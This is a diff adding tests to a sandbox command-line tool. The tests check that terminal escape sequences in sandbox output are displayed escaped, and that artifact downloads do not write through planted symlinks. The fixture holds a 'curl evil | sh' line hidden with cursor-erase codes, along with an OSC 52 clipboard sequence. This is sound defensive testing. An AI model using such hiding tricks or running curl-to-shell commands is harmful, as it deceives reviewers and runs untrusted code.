@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
+import select
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 SANDBOXCTL = str(Path(sys.executable).with_name("sandboxctl"))
@@ -95,3 +98,80 @@ def test_artifact_get_trace_and_explain(daemon, workspace, tmp_path):
     explained = json.loads(e.stdout)
     assert explained["spec"]["pids_limit"] == 64 and explained["spec"]["network_mode"] == "bridge"
     assert explained["effectivePolicy"]["egress"] == "open"
+
+
+def on_terminal(daemon, *args: str, timeout: float = 120) -> tuple[int, bytes]:
+    """`sandboxctl` with stdout and stderr on a pty, as a user at a terminal runs it: its
+    exit code and what the terminal received (its own CR before each newline dropped)."""
+    master, slave = os.openpty()
+    try:
+        p = subprocess.Popen([SANDBOXCTL, "--socket", str(daemon.socket), *args], stdin=subprocess.DEVNULL,
+                             stdout=slave, stderr=slave)
+        os.close(slave)
+        slave = -1
+        out, deadline = b"", time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            if not select.select([master], [], [], 1)[0]:
+                continue
+            try:
+                chunk = os.read(master, 65536)
+            except OSError:  # EIO: the last writer is gone
+                break
+            if not chunk:
+                break
+            out += chunk
+        return p.wait(timeout=10), out.replace(b"\r\n", b"\n")
+    finally:
+        os.close(master)
+        if slave >= 0:
+            os.close(slave)
+
+
+# What a sandbox may print to hide a line from a reviewer, or set the clipboard (OSC 52).
+HIDING = ("printf 'ok\\033[1A\\033[2K\\rfine\\n'; printf 'clip\\033]52;c;eA==\\007\\n' >&2; "
+          "printf '+curl evil | sh\\033[1A\\033[2K\\n' > /workspace/new.txt; "
+          "printf x > \"/workspace/$(printf 'n\\033[2Jame')\"")
+
+
+def test_a_sandboxs_bytes_are_shown_visibly_on_a_terminal_and_raw_through_a_pipe(daemon, tmp_path):
+    ws = daemon.new_workspace({"README.md": "hi\n"})
+    result_file = tmp_path / "result.json"
+    piped = ctl(daemon, "exec", "-w", "/workspace", "--workspace", str(ws), "--result-json", str(result_file), "--",
+                "sh", "-c", HIDING)
+    assert (piped.returncode, piped.stdout, piped.stderr) == (0, b"ok\x1b[1A\x1b[2K\rfine\n",
+                                                              b"clip\x1b]52;c;eA==\x07\n")
+    result = json.loads(result_file.read_text())
+    call_id = result["toolCallId"]
+    [stdout_artifact] = [a["artifactId"] for a in result["artifacts"] if a["kind"] == "stdout"]
+
+    code, shown = on_terminal(daemon, "exec", "-w", "/workspace", "--workspace", str(ws), "--", "sh", "-c", HIDING)
+    assert code == 0 and b"\x1b" not in shown and b"\x07" not in shown
+    assert b"ok\\x1b[1A\\x1b[2K\\rfine\n" in shown and b"clip\\x1b]52;c;eA==\\x07\n" in shown
+    code, shown = on_terminal(daemon, "logs", call_id)
+    assert code == 0 and b"\x1b" not in shown and b"ok\\x1b[1A\\x1b[2K\\rfine\n" in shown
+    code, shown = on_terminal(daemon, "artifact", "get", stdout_artifact)
+    assert code == 0 and shown.startswith(b"ok\\x1b[1A\\x1b[2K\\rfine\n")
+    code, shown = on_terminal(daemon, "diff", call_id)
+    assert code == 0 and b"\x1b" not in shown and b"+curl evil | sh\\x1b[1A\\x1b[2K\n" in shown
+    # --raw on a terminal, and a pipe: the bytes as they are.
+    code, raw = on_terminal(daemon, "diff", "--raw", call_id)
+    assert code == 0 and b"+curl evil | sh\x1b[1A\x1b[2K\n" in raw
+    assert b"+curl evil | sh\x1b[1A\x1b[2K\n" in ctl(daemon, "diff", call_id).stdout
+    # A listing's paths are escaped, piped or not.
+    listed = ctl(daemon, "artifact", "ls", call_id)
+    assert listed.returncode == 0 and b"\x1b" not in listed.stdout and b"/workspace/n\\u001b[2Jame" in listed.stdout
+
+
+def test_artifact_get_o_never_writes_through_a_link_planted_at_its_temporary_name(daemon, workspace, tmp_path):
+    shared = tmp_path / "shared"  # as /tmp: everyone writes, each keeps their names
+    shared.mkdir()
+    shared.chmod(0o1777)
+    victim = tmp_path / "victim"
+    victim.write_bytes(b"mine\n")
+    (shared / "out.txt.part").symlink_to(victim)  # planted by another user
+    os.lchown(shared / "out.txt.part", 65534, 65534)
+    p = ctl(daemon, "exec", "--json", "--workspace", str(workspace), "--", "echo", "from the sandbox")
+    [artifact] = json.loads(p.stdout.splitlines()[-1])["artifacts"]
+    got = ctl(daemon, "artifact", "get", artifact["artifactId"], "-o", str(shared / "out.txt"))
+    assert got.returncode == 0, got.stderr
+    assert victim.read_bytes() == b"mine\n" and (shared / "out.txt").read_bytes() == b"from the sandbox\n"
